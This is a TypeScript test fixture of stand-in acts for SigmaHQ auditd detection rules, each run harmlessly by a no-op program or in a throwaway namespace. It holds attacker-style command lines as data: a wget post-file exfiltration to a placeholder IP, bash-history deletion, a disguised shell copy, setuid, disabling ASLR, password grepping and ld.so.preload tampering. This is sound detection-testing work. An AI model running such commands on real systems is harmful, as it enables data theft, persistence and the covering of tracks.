// Stand-ins for SigmaHQ's rules about auditd: for each rule an act that the rule means, done without harm. Programs are a program that
// does nothing under another name.

/** What is run: a program that does nothing, with these words; the first is `argv[0]`, which audit records show as `a0`. */
export interface AuditStandIn {
  /** Id of the rule. */
  readonly id: string;
  readonly words: readonly string[];
  /** Where the program lies; default: a folder of the test's own, under the name in the first word. */
  readonly program?: string;
  /** Runs with this user id. */
  readonly uid?: number;
}

const run = (id: string, words: string, more: Omit<AuditStandIn, "id" | "words"> = {}): AuditStandIn => ({
  id,
  words: words.split(" "),
  ...more,
});

/** TOKEN becomes a word of the test's own. Those without one are told by their rule alone. */
export const executions: readonly AuditStandIn[] = [
  run("c52a914f-3d8b-4b2a-bb75-b3991e75f8ba", "truncate -s +1M /srv/TOKEN"),
  run(
    "70b4156e-50fc-4523-aa50-c9dddf1993fc",
    "iptables -t nat -D PREROUTING -p tcp -s TOKEN --dport 22 -j REDIRECT --to-ports 42392",
  ),
  run("fe10751f-1995-40a5-aaa2-c97ccb4123fe", "getcap -r / TOKEN"),
  run("b3cec4e7-6901-4b0d-a02d-8ab2d8eb818b", "touch -t 202001010000 /srv/TOKEN"),
  run("a5b977d6-8a81-4475-91b9-49dbfcd941f7", "chattr -i /srv/TOKEN"),
  run("214e7e6c-f21b-47ff-bb6f-551b2d143fcf", "xclip -sel clip -o TOKEN"),
  run("f200dc3f-b219-425d-a17e-c38467364816", "xclip -selection clipboard -t image/png -o TOKEN"),
  run("071d5e5a-9cef-47ec-bc4e-a42e34d8d0ed", "worker --pool TOKEN --cpu-priority=5"),
  run("a3b5e3e9-1b49-4119-8b8e-0344a01f21ee", "gzip -k /srv/TOKEN"),
  run("cb39d16b-b3b6-4a7a-8222-1cf24b686ffc", "wget --post-file=/etc/TOKEN 192.0.2.1"),
  run("37222991-11e9-4b6d-8bdf-60fbe48f753e", "dd if=/dev/zero of=/srv/TOKEN"),
  run("74c01ace-0152-4094-8ae2-6fd776dd43e5", "chown nobody /srv/TOKEN"),
  run("df3fcaea-2715-4214-99c5-0056ea59eb35", "grep -ri password /srv/TOKEN"),
  run("d08722cd-3d09-449a-80b4-83ea2d9d4616", "mkdir /srv/.TOKEN"),
  run("45810b50-7edc-42ca-813b-bdac02fb946b", "cat TOKEN.jpg x.zip"),
  run("9d4548fa-bba0-4e88-bd66-5d5bf516cda0", "cp /bin/sh /srv/TOKEN/crond"),
  run("323ff3f5-0013-4847-bbd4-250b5edb62cc", "ufw delete TOKEN"),
  run("f4d3748a-65d1-4806-bd23-e25728081d01", "tcpdump -c 5 -i TOKEN"),
  run("dbe4b9c5-c254-4258-9688-d6af0b7967fd", "import -window root TOKEN.png"),
  run("e2f17c5d-b02a-442b-9052-6eb89c9fec9c", "xwd -root -out TOKEN.xwd"),
  run("ce446a9e-30b9-4483-8e38-d2c9ad0a2280", "steghide embed -cf TOKEN.jpg -ef x"),
  run("a5a827d9-1bbe-4952-9293-c59d897eb41b", "steghide extract -sf TOKEN.jpg"),
  run("1543ae20-cbdf-4ec1-8d12-7664d667a825", "chmod u+s /srv/TOKEN"),
  run("eae8ce9f-bde9-47a6-8e79-f20d18419910", "rm /srv/TOKEN/.bash_history"),
  run("2625cc59-0634-40d0-821e-cb67382a3dd7", "systemctl restart TOKEN"),
  run("4cb57c2f-1f29-41f8-893d-8bed8e1c1d2f", "shutdown -h TOKEN"),
  run("edd595d7-7895-4fa7-acb3-85a18a8772ca", "unzip TOKEN.jpg"),
  run("9a0d8ca0-2385-4020-b6c6-cb6153ca56f3", "whoami TOKEN"),
  run("a7af2487-9c2f-42e4-9bb9-ff961f0561d5", "arecord -vv -fdat TOKEN"),
  run("e497a24e-9345-4a62-9803-b06d7d7cb132", "sysctl -w kernel.randomize_va_space=0 TOKEN"),
  run("ca94a6db-8106-4737-9ed2-3e3bb826af0a", "chage --list TOKEN"),
  run("f34047d9-20d3-4e8b-8672-0a35cc50dc71", "lsmod TOKEN"),
];

/** Rules about the SYSCALL record of an execution: told by rule and program. */
export const programsRun: readonly AuditStandIn[] = [
  run("759d0d51-bc99-4b5e-9add-8f5b2c8e7512", "useradd"),
  run("2dad0cba-c62a-4a4f-949f-5f6ecd619769", "split"),
  run("a39d7fa7-3fbd-4dc2-97e1-d87f546b1bbc", "idle", { program: "/tmp/NAME" }),
  run("c0d3734d-330f-4a03-aae2-65dacc6a8222", "id", { uid: 33 }),
  run("f7158a64-6204-4d6d-868a-6e6378b467e0", "base64 --version", { program: "/usr/bin/base64" }),
];

/** Written to the log: file and the line behind time and host. */
export const logged: readonly { readonly id: string; readonly file: string; readonly text: string }[] = [
  {
    id: "53059bc0-1472-438b-956a-7508a94a91f0",
    file: "syslog",
    text: "systemd[1]: Stopped ufw.service - Uncomplicated firewall.",
  },
  {
    id: "759d0d51-bc99-4b5e-9add-8f5b2c8e7512",
    file: "auth.log",
    text: "useradd[77]: new user: name=TOKEN, UID=1005, GID=1005, home=/home/x, shell=/bin/sh, from=none",
  },
];

/** What is done to a file, in a mount namespace where /etc, /run and /root are empty and nobody else's. TOKEN as above. */
export interface FileAct {
  readonly id: string;
  readonly script: string;
  /** `name` of the PATH record, as the kernel calls the file. */
  readonly name: string;
  readonly nametype: "CREATE" | "NORMAL";
}

const act = (id: string, script: string, name: string, nametype: FileAct["nametype"] = "CREATE"): FileAct => ({
  id,
  script,
  name,
  nametype,
});

/** Prepares the namespace. */
export const emptyPlaces = "for d in /etc /run /root; do mount -t tmpfs none $d; done";

export const fileActs: readonly FileAct[] = [
  act(
    "977ef627-4539-4875-adf4-ed8f780c4922",
    "mkdir /etc/audit && touch /etc/audit/TOKEN.rules",
    "/etc/audit/TOKEN.rules",
  ),
  act("808146b2-9332-4d78-9416-d7e47012d83d", "touch /var/run/xinetd.lock", "/run/xinetd.lock"),
  act("4b3cb710-5e83-4715-8c45-8b2b5b3e5751", ": > /etc/ld.so.preload", "/etc/ld.so.preload"),
  act("c830f15d-6f6e-430f-8074-6f73d6807841", "touch /etc/rsyslog.conf", "/etc/rsyslog.conf"),
  act("ea61bb82-a5e0-42e6-8537-91d29500f1b9", "touch /etc/sysctl.conf", "/etc/sysctl.conf"),
  act("1f358e2e-cb63-43c3-b575-dfb072a6814f", "echo TOKEN > /etc/issue; cat /etc/issue", "/etc/issue", "NORMAL"),
  act(
    "1bac86ba-41aa-4f62-9d6b-405eac99b485",
    "mkdir -p /etc/systemd/system && touch /etc/systemd/system/TOKEN.service",
    "/etc/systemd/system/TOKEN.service",
  ),
  act("a94cdd87-6c54-4678-a6cc-2814ffe5a13d", "echo : >> /root/.bashrc", "/root/.bashrc"),
  act(
    "49aae26c-450e-448b-911d-b3c13d178dfc",
    "mkdir /etc/pam.d && touch /etc/pam.d/system-auth",
    "/etc/pam.d/system-auth",
  ),
  act(
    "ca94a6db-8106-4737-9ed2-3e3bb826af0a",
    "touch /etc/login.defs; cat /etc/login.defs",
    "/etc/login.defs",
    "NORMAL",
  ),
  act(
    "f34047d9-20d3-4e8b-8672-0a35cc50dc71",
    "touch /etc/lsb-release; cat /etc/lsb-release",
    "/etc/lsb-release",
    "NORMAL",
  ),
  act("9e1bef8d-0fff-46f6-8465-9aa54e128c1e", "cp /bin/true /run/.TOKEN && /run/.TOKEN", "/run/.TOKEN", "NORMAL"),
];

/** A system call of test/live/programs/calls.c, by a program of this name. */
export interface CallAct {
  readonly id: string;
  readonly call: string;
  readonly program: string;
  /** What the SYSCALL record says beside who acted. */
  readonly fields: Readonly<Record<string, string>>;
}

export const callActs: readonly CallAct[] = [
  {
    id: "eca5e022-d368-4043-98e5-9736fb01f72f",
    call: "syslog",
    program: "calls",
    fields: { SYSCALL: "syslog", a0: "5", success: "no", exit: "-1", uid: "65534", euid: "65534" },
  },
  {
    id: "b207d563-a1d9-4275-b349-77d1eb55aa6d",
    call: "sysinfo",
    program: "calls",
    fields: { SYSCALL: "sysinfo", success: "yes", exit: "0" },
  },
  {
    id: "474b415a-8b3d-4e6a-9f12-0d5c8a7b6e94",
    call: "socket",
    program: "calls",
    fields: { SYSCALL: "socket", a0: "26", a1: "5", a2: "0" },
  },
  {
    id: "e497a24e-9345-4a62-9803-b06d7d7cb132",
    call: "personality",
    program: "calls",
    fields: { SYSCALL: "personality", a0: "40000", success: "yes" },
  },
  {
    id: "a7af2487-9c2f-42e4-9bb9-ff961f0561d5",
    call: "memfd_create",
    program: "ecasound",
    fields: { SYSCALL: "memfd_create", success: "yes" },
  },
  {
    id: "3761e026-f259-44e6-8826-719ed8079408",
    call: "connect",
    program: "nc",
    fields: { SYSCALL: "connect", key: "network_connect_4", a2: "10", success: "yes", exit: "0" },
  },
];
